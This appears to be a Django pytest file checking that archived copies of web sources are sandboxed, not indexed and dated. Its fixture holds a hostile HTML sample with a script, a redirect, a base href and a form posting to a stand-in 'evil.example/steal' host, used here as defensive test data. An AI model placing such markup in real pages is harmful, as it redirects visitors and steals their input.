"""The public archived copy of a source: sandboxed, not indexed, dated."""

import pytest
from django.urls import reverse

from sources import workflow
from sources.models import Capture, SourceState, Watch
from tests.factories import SourceFactory

pytestmark = pytest.mark.django_db

HOSTILE = (
    b"<html><head><title>Captured</title><script>document.title='pwned'</script>"
    b"<base href='https://evil.example/'>"
    b'<meta http-equiv="Refresh" content="0; url=https://evil.example/">'
    b"</head><body><h1>The report</h1>"
    b"<form action='https://evil.example/steal'><input name=p></form>"
    b"<img src='https://tracker.example/pixel.gif'></body></html>"
)


@pytest.fixture
def captured(media):
    source = SourceFactory(url="https://example.org/report")
    capture = workflow.store_file(
        source,
        data=HOSTILE,
        name="report.html",
        content_type="text/html; charset=utf-8",
        origin=Capture.Origin.FILE,
    )
    return source, capture


def test_the_archive_is_sandboxed_and_not_indexed(client, captured):
    source, capture = captured
    response = client.get(reverse("sources:archive", args=[source.pk]))
    assert response.status_code == 200
    csp = response["Content-Security-Policy"]
    assert csp.startswith("sandbox;")
    assert "default-src 'none'" in csp
    assert "script-src" not in csp  # default-src 'none': no script at all
    assert "form-action 'none'" in csp
    assert "noindex" in response["X-Robots-Tag"]
    html = response.content.decode()
    assert "Archived copy" in html
    assert capture.captured_at.strftime("%Y-%m-%d %H:%M") in html
    assert 'href="https://example.org/report"' in html
    assert "<h1>The report</h1>" in html
    assert 'evil.example/"' not in html  # the refresh is gone
    assert "http-equiv" not in html.lower()


def test_a_pdf_capture_is_a_download(client, media):
    source = SourceFactory(url="")
    workflow.store_file(
        source, data=b"%PDF-1.4 x", name="letter.pdf", origin=Capture.Origin.UPLOADED
    )
    response = client.get(reverse("sources:archive", args=[source.pk]))
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response.content == b"%PDF-1.4 x"
    assert response["Content-Security-Policy"].startswith("sandbox;")


@pytest.mark.parametrize("query", ["?capture=abc", "?capture=0", "?capture=99999999"])
def test_bad_capture_numbers_are_404(client, captured, query):
    source, _ = captured
    response = client.get(reverse("sources:archive", args=[source.pk]) + query)
    assert response.status_code == 404


def test_no_capture_yet_is_404(client, media):
    source = SourceFactory()
    assert client.get(reverse("sources:archive", args=[source.pk])).status_code == 404


def test_the_source_page_links_the_original_and_our_copy(client, captured):
    source, capture = captured
    page = client.get(source.get_absolute_url()).content.decode()
    assert reverse("sources:archive", args=[source.pk]) in page
    assert 'href="https://example.org/report"' in page
    assert "The original is gone" not in page


def test_a_gone_source_says_so(client, captured):
    source, capture = captured
    Watch.objects.create(
        source=source, state=SourceState.GONE, since=capture.captured_at
    )
    workflow.alert_ratings(source, "the source is gone")  # bumps the public pages
    page = client.get(source.get_absolute_url()).content.decode()
    assert "The original is gone" in page
    archive = client.get(reverse("sources:archive", args=[source.pk])).content.decode()
    assert "The original is gone." in archive
